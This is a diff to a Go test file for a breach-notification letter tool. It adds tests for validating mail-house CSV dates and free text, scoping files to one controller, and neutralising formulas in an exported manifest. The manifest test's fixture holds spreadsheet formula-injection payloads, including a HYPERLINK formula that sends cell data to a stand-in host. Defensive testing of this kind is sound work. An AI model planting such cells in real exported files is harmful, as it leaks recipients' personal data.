@@ -5,7 +5,9 @@ import (
 	"bytes"
 	"context"
 	"database/sql"
+	"encoding/csv"
 	"encoding/json"
+	"errors"
 	"flag"
 	"io"
 	"os"
@@ -320,5 +322,288 @@ func golden(t *testing.T, name, got string) {
 	}
 	if got != string(want) {
 		t.Errorf("%s differs from %s:\n--- got\n%s\n--- want\n%s", name, path, got, want)
+	}
+}
+
+// exportedLetters plans, queues and exports the letters of incident id
+// and returns their ids by account.
+func exportedLetters(t *testing.T, st *incident.Store, id int64) map[string]string {
+	t.Helper()
+	ctx := context.Background()
+	if _, err := notify.QueueLetters(ctx, st, id); err != nil {
+		t.Fatal(err)
+	}
+	if res, err := notify.ExportLetters(ctx, st, id, filepath.Join(t.TempDir(), "b.zip"), ""); err != nil || res.Letters == 0 {
+		t.Fatalf("export: %+v, %v", res, err)
+	}
+	ids := map[string]string{}
+	for a, n := range noticeIDs(t, st, id) {
+		ids[a] = notify.LetterID(n)
+	}
+	return ids
+}
+
+// twoControllers is letterStore's incident of the operator "op" with its
+// letters exported (by account: opL), and an incident of the member "m2",
+// whose course l1 and l2 took, with theirs (m2L).
+func twoControllers(t *testing.T) (st *incident.Store, opL, m2L map[string]string) {
+	t.Helper()
+	ctx := context.Background()
+	st, id := letterStore(t)
+	opL = exportedLetters(t, st, id)
+	if err := st.CreateController(ctx, &incident.Controller{ID: "m2", Name: "Member Two", Member: true, From: "n@m2.example"}); err != nil {
+		t.Fatal(err)
+	}
+	if res, err := st.ImportCourses(ctx, strings.NewReader("course_id,member_id,title\nc1,m2,Course\n"), incident.ImportOptions{File: "c.csv"}); err != nil || res.Rejected > 0 {
+		t.Fatalf("courses: %+v %v", res, err)
+	}
+	if res, err := st.ImportEnrollments(ctx, strings.NewReader("account_id,course_id\nl1,c1\nl2,c1\n"), incident.ImportOptions{File: "e.csv"}); err != nil || res.Rejected > 0 {
+		t.Fatalf("enrollments: %+v %v", res, err)
+	}
+	inc, err := st.CreateIncident(ctx, incident.NewIncident{ControllerID: "m2", Title: "t2", Discovered: discovered,
+		Elements: []incident.Element{incident.ElemName, incident.ElemSSN}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := st.ScopeIncident(ctx, inc.ID, incident.ScopeRule{All: true}, nil); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := notify.MakePlan(ctx, st, inc.ID); err != nil {
+		t.Fatal(err)
+	}
+	m2L = exportedLetters(t, st, inc.ID)
+	if len(m2L) != 2 {
+		t.Fatalf("m2 letters: %v, want l1's and l2's", m2L)
+	}
+	return st, opL, m2L
+}
+
+// letterFile applies a mail-house file and returns its result and
+// problems.
+func letterFile(t *testing.T, ctx context.Context, st *incident.Store, returned bool, opt notify.LetterFileOptions, body string) (notify.LetterResult, []string, error) {
+	t.Helper()
+	var problems []string
+	report := func(p incident.Problem) {
+		s := p.String()
+		if p.Warning {
+			s += " (warning)"
+		}
+		problems = append(problems, s)
+	}
+	apply := notify.ConfirmLetters
+	if returned {
+		apply = notify.ReturnedLetters
+	}
+	res, err := apply(ctx, st, strings.NewReader(body), opt, report)
+	return res, problems, err
+}
+
+func noticeRow(t *testing.T, st *incident.Store, letterID string) (state, final, tracking, reply string) {
+	t.Helper()
+	err := st.DB().QueryRow(`SELECT state, final_at, tracking, last_reply FROM notices WHERE id = ?`,
+		strings.TrimPrefix(letterID, "L")).Scan(&state, &final, &tracking, &reply)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return state, final, tracking, reply
+}
+
+// Issue 9, finding 12: mail-house dates are checked against the letter's
+// own history and the clock, free text is cleaned and capped, and a file
+// is scoped to one controller.
+func TestLetters_MailHouseChecks(t *testing.T) {
+	ctx := context.Background()
+
+	t.Run("Dates", func(t *testing.T) {
+		st, id := letterStore(t)
+		L := exportedLetters(t, st, id) // exported on 2026-11-28 (storetest.Now)
+		// A mailed date before the export, a date within a day of slack,
+		// one beyond it; the good lines commit.
+		res, problems, err := letterFile(t, ctx, st, false, notify.LetterFileOptions{File: "m.csv"},
+			"letter_id,mailed_at\n"+
+				L["l1"]+",2026-11-27\n"+
+				L["l2"]+",2026-11-28\n"+
+				L["l3"]+",2026-11-29\n"+
+				L["l4"]+",2026-11-30\n")
+		if err != nil || res.Accepted != 2 || res.Rejected != 2 {
+			t.Fatalf("confirm: %+v, %v, %q", res, err, problems)
+		}
+		want := []string{
+			"m.csv:2: mailed_at: 2026-11-27 is before " + L["l1"] + " was exported (2026-11-28)",
+			"m.csv:5: mailed_at: 2026-11-30 is in the future",
+		}
+		if strings.Join(problems, "\n") != strings.Join(want, "\n") {
+			t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(problems, "\n"), strings.Join(want, "\n"))
+		}
+		if s, _, _, _ := noticeRow(t, st, L["l1"]); s != notify.StateExported {
+			t.Errorf("l1 is %s after a rejected line", s)
+		}
+
+		// A returned date before the mailed date, or before the export for
+		// a letter never confirmed; same-day and later are fine.
+		st.Now = func() time.Time { return time.Date(2026, 12, 3, 12, 0, 0, 0, time.UTC) }
+		res, problems, err = letterFile(t, ctx, st, true, notify.LetterFileOptions{File: "r.csv"},
+			L["l2"]+",2026-11-27T23:00:00Z,early\n"+
+				L["l3"]+",2026-11-28,early\n"+
+				L["l1"]+",2026-11-20,early\n"+
+				L["l4"]+",2026-11-28,same day as export\n")
+		if err != nil || res.Accepted != 1 || res.Rejected != 3 {
+			t.Fatalf("returned: %+v, %v, %q", res, err, problems)
+		}
+		want = []string{
+			"r.csv:1: returned_at: 2026-11-27T23:00:00Z is before " + L["l2"] + " was exported (2026-11-28)",
+			"r.csv:2: returned_at: 2026-11-28 is before " + L["l3"] + " was mailed (2026-11-29)",
+			"r.csv:3: returned_at: 2026-11-20 is before " + L["l1"] + " was exported (2026-11-28)",
+		}
+		if strings.Join(problems, "\n") != strings.Join(want, "\n") {
+			t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(problems, "\n"), strings.Join(want, "\n"))
+		}
+		res, problems, err = letterFile(t, ctx, st, true, notify.LetterFileOptions{File: "r2.csv"}, L["l3"]+",2026-11-29\n")
+		if err != nil || res.Accepted != 1 || len(problems) != 0 {
+			t.Errorf("returned the day it was mailed: %+v, %v, %q", res, err, problems)
+		}
+	})
+
+	t.Run("FreeText", func(t *testing.T) {
+		st, id := letterStore(t)
+		L := exportedLetters(t, st, id)
+		long := strings.Repeat("é", notify.MaxLetterText+100)
+		// A quoted reason spanning lines 2 to 5, with a tab, a blank line, a
+		// control character and a CR; the line after it is line 6.
+		res, problems, err := letterFile(t, ctx, st, true, notify.LetterFileOptions{File: "r.csv"},
+			"letter_id,returned_at,reason\n"+
+				L["l1"]+",2026-11-28,\"moved\taway\n\nno\x07 forwarding\r\n\"\n"+
+				L["l2"]+",2026-11-28,"+long+"\n"+
+				"L999999,2026-11-28,x\n")
+		if err != nil || res.Accepted != 2 || res.Rejected != 1 || res.Warnings != 1 {
+			t.Fatalf("returned: %+v, %v, %q", res, err, problems)
+		}
+		want := []string{
+			"r.csv:6: reason: longer than 500 characters: cut to 500 (warning)",
+			"r.csv:7: letter_id: unknown letter L999999",
+		}
+		if strings.Join(problems, "\n") != strings.Join(want, "\n") {
+			t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(problems, "\n"), strings.Join(want, "\n"))
+		}
+		if _, _, _, reply := noticeRow(t, st, L["l1"]); reply != "moved away no forwarding" {
+			t.Errorf("l1's reason is %q, want it on one clean line", reply)
+		}
+		if _, _, _, reply := noticeRow(t, st, L["l2"]); reply != strings.Repeat("é", notify.MaxLetterText) {
+			t.Errorf("l2's reason has %d runes, want %d", len([]rune(reply)), notify.MaxLetterText)
+		}
+		var details []string
+		ledger.FindEntries(ctx, st.DB(), ledger.EntryFilter{Controller: "op"}, func(e ledger.Entry) error {
+			if e.Kind == ledger.KindLetterReturned {
+				details = append(details, string(e.Detail))
+			}
+			return nil
+		})
+		if len(details) != 2 || !strings.Contains(details[0], `"reason":"moved away no forwarding"`) || strings.Count(details[1], "é") != notify.MaxLetterText {
+			t.Errorf("ledger details: %q", details)
+		}
+		// A hostile value is quoted, cut, in the reason.
+		_, problems, _ = letterFile(t, ctx, st, false, notify.LetterFileOptions{File: "m.csv"}, strings.Repeat("x", 100000)+",2026-11-28\n")
+		if len(problems) != 1 || len(problems[0]) > 120 || !strings.HasPrefix(problems[0], `m.csv:1: letter_id: "xxxx`) {
+			t.Errorf("long id: %d problems, the first %d bytes long", len(problems), len(problems[0]))
+		}
+	})
+
+	t.Run("SeveralControllers", func(t *testing.T) {
+		st, opL, m2L := twoControllers(t)
+		body := "letter_id,mailed_at\n" +
+			opL["l1"] + ",2026-11-28\n" +
+			m2L["l1"] + ",2026-11-28\n" +
+			opL["l2"] + ",2026-11-28\n" +
+			"L999999,2026-11-28\n" +
+			m2L["l2"] + ",2026-11-28\n"
+		// Unscoped: refused whole, naming whose lines are whose.
+		_, problems, err := letterFile(t, ctx, st, false, notify.LetterFileOptions{File: "m.csv"}, body)
+		var mixed *notify.MixedControllersError
+		if !errors.As(err, &mixed) || !errors.Is(err, incident.ErrInvalid) || len(problems) != 0 {
+			t.Fatalf("mixed file: %v, %q; want a MixedControllersError", err, problems)
+		}
+		if want := "invalid: m.csv: letters of 2 controllers (m2 on lines 3, 6; op on lines 2, 4): nothing applied; apply one controller's letters at a time"; err.Error() != want {
+			t.Errorf("mixed file: %q\nwant %q", err, want)
+		}
+		if k := letterKinds(t, st); k[ledger.KindLetterMailed] != 0 {
+			t.Fatalf("a refused file recorded %d letter_mailed entries", k[ledger.KindLetterMailed])
+		}
+
+		// --controller op: m2's letters read as unknown, like L999999.
+		res, problems, err := letterFile(t, ctx, st, false, notify.LetterFileOptions{File: "m.csv", Controller: "op"}, body)
+		if err != nil || res.Accepted != 2 || res.Rejected != 3 || res.Controller != "op" {
+			t.Fatalf("scoped to op: %+v, %v, %q", res, err, problems)
+		}
+		want := []string{
+			"m.csv:3: letter_id: unknown letter " + m2L["l1"],
+			"m.csv:5: letter_id: unknown letter L999999",
+			"m.csv:6: letter_id: unknown letter " + m2L["l2"],
+		}
+		if strings.Join(problems, "\n") != strings.Join(want, "\n") {
+			t.Errorf("problems:\n%s\nwant:\n%s", strings.Join(problems, "\n"), strings.Join(want, "\n"))
+		}
+
+		// A member is scoped to itself: the operator's letters (here
+		// already mailed) read as unknown, not as "already mailed".
+		member := incident.WithActor(ctx, incident.Actor{Name: "staff", Role: "member", Controller: "m2"})
+		res, problems, err = letterFile(t, member, st, false, notify.LetterFileOptions{File: "m.csv"}, body)
+		if err != nil || res.Accepted != 2 || res.Rejected != 3 || res.Controller != "m2" {
+			t.Fatalf("member: %+v, %v, %q", res, err, problems)
+		}
+		want = []string{
+			"m.csv:2: letter_id: unknown letter " + opL["l1"],
+			"m.csv:4: letter_id: unknown letter " + opL["l2"],
+			"m.csv:5: letter_id: unknown letter L999999",
+		}
+		if strings.Join(problems, "\n") != strings.Join(want, "\n") {
+			t.Errorf("member problems:\n%s\nwant:\n%s", strings.Join(problems, "\n"), strings.Join(want, "\n"))
+		}
+		if _, _, err := letterFile(t, member, st, true, notify.LetterFileOptions{File: "r.csv", Controller: "op"}, body); !errors.Is(err, incident.ErrNotFound) {
+			t.Errorf("member scoping a file to another controller: %v, want not found", err)
+		}
+		if k := letterKinds(t, st); k[ledger.KindLetterMailed] != 2 {
+			t.Errorf("op's ledger has %d letter_mailed entries, want 2", k[ledger.KindLetterMailed])
+		}
+	})
+}
+
+// Issue 9, finding 13: no manifest cell can be read as a formula, the
+// account id included.
+func TestLetters_ManifestNeutralisesEveryCell(t *testing.T) {
+	ctx := context.Background()
+	st := storetest.Open(t)
+	id := scopedIncident(t, st, `id,name,country,region,postal_line1,city,postal_code,e_consent,status
+"=HYPERLINK(""http://x.example/?""&A1)",Ann,US,CA,1 Main St,Los Angeles,90012,false,active
++1,@Bob,US,CA,2 Main St,Los Angeles,90012,false,active
+-2,Cy,US,CA,-3 Main St,Los Angeles,90012,false,active
+@SUM(A1),Dee,US,CA,4 Main St,=Los Angeles,90012,false,active
+`, incident.ElemName, incident.ElemSSN)
+	if _, err := notify.MakePlan(ctx, st, id); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := notify.QueueLetters(ctx, st, id); err != nil {
+		t.Fatal(err)
+	}
+	out := filepath.Join(t.TempDir(), "b.zip")
+	if res, err := notify.ExportLetters(ctx, st, id, out, ""); err != nil || res.Letters != 4 {
+		t.Fatalf("export: %+v, %v", res, err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(zipMembers(t, out)["manifest.csv"])).ReadAll()
+	if err != nil || len(rows) != 5 {
+		t.Fatalf("manifest: %d rows, %v", len(rows), err)
+	}
+	accounts := map[string]bool{}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("manifest column %s: %q can be read as a formula", rows[0][i], cell)
+			}
+		}
+		accounts[row[1]] = true
+	}
+	for _, a := range []string{`'=HYPERLINK("http://x.example/?"&A1)`, "'+1", "'-2", "'@SUM(A1)"} {
+		if !accounts[a] {
+			t.Errorf("manifest lacks account %q (has %v)", a, accounts)
+		}
 	}
 }
